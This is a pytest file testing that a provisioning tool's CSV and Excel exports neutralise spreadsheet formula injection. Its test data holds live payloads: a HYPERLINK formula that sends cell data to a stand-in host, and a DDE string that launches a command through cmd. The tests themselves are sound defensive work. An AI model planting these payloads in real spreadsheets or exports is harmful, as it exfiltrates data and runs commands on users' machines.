"""Formula injection: text from the input or the API never runs in a spreadsheet.

The input is a real CSV file read by the loader, with values people have used to
attack spreadsheet exports: a HYPERLINK formula, ``@SUM``, leading ``+``, ``-``
and tab.
"""

from __future__ import annotations

import zipfile
from pathlib import Path

import openpyxl
import pytest

from provisioner.loading import load_sheet
from provisioner.model import LoadedSheet, Status
from provisioner.report import FAILED_SHEET, RESULTS_SHEET, write_results
from provisioner.safety import starts_like_formula

from .helpers import read_csv, report_row

INJECTION_CSV = (
    "email,firstName,lastName,phone\r\n"
    'ann.lee@example.com,"=HYPERLINK(""http://example.invalid/?q=""&A2,""Click"")",'
    "Lee,555-0100\r\n"
    "bo.chen@example.com,Bo,@SUM(1+1),+1 555 0101\r\n"
    "cy.diaz@example.com,-Cy,+Diaz,-\r\n"
    "di.evans@example.com,\tDi,=1+1,555-0102\r\n"
)

FORMULA_LIKE = {
    '=HYPERLINK("http://example.invalid/?q="&A2,"Click")',
    "@SUM(1+1)",
    "+1 555 0101",
    "-Cy",
    "+Diaz",
    "-",
    "\tDi",
    "=1+1",
}

API_MESSAGE = "=cmd|' /C calc'!A0 is not a valid phone number"


@pytest.fixture
def injected(tmp_path: Path) -> LoadedSheet:
    source = tmp_path / "users.csv"
    source.write_bytes(INJECTION_CSV.encode("utf-8"))
    return load_sheet(source)


@pytest.fixture
def written(tmp_path: Path, injected: LoadedSheet) -> Path:
    rows = [
        report_row(source, Status.REJECTED, error=API_MESSAGE)
        for source in injected.rows
    ]
    summary = {"file": "+users.csv"}
    return write_results(tmp_path / "out.xlsx", injected, rows, summary=summary).xlsx


def test_loader_keeps_values_exactly(injected: LoadedSheet) -> None:
    texts = {c.value for row in injected.rows for c in row.cells}
    assert texts >= FORMULA_LIKE


def test_no_formula_cells_in_workbook(written: Path) -> None:
    workbook = openpyxl.load_workbook(written)
    for worksheet in workbook:
        for row in worksheet.iter_rows():
            for c in row:
                assert c.data_type != "f", (worksheet.title, c.coordinate, c.value)


def test_formula_like_cells_are_text(written: Path) -> None:
    workbook = openpyxl.load_workbook(written)
    seen = set()
    for title in (RESULTS_SHEET, FAILED_SHEET):
        for row in workbook[title].iter_rows():
            for c in row:
                if isinstance(c.value, str) and starts_like_formula(c.value):
                    assert c.data_type == "s", c.coordinate
                    assert c.quotePrefix, c.coordinate
                    seen.add(c.value)
    assert seen == FORMULA_LIKE | {API_MESSAGE}


def test_raw_sheet_xml_has_no_formula(written: Path) -> None:
    # openpyxl could hide a formula behind a reader quirk; the XML cannot.
    with zipfile.ZipFile(written) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/sheet"):
                assert b"<f>" not in archive.read(name), name
                assert b"<f " not in archive.read(name), name


def test_csv_cells_start_with_apostrophe(written: Path) -> None:
    rows = read_csv(written.with_suffix(".csv"))
    cells = [value for row in rows[1:] for value in row]
    for text in FORMULA_LIKE | {API_MESSAGE}:
        assert "'" + text in cells, text
    for value in cells:
        assert not starts_like_formula(value), value


def test_csv_numbers_not_escaped(written: Path) -> None:
    rows = read_csv(written.with_suffix(".csv"))
    assert [row[0] for row in rows[1:]] == ["2", "3", "4", "5"]


def test_csv_bytes_bom_and_crlf(written: Path) -> None:
    data = written.with_suffix(".csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbfrow,status,userId,bcId,error,")
    assert data.count(b"\r\n") == 5
    assert b"\n" not in data.replace(b"\r\n", b"")
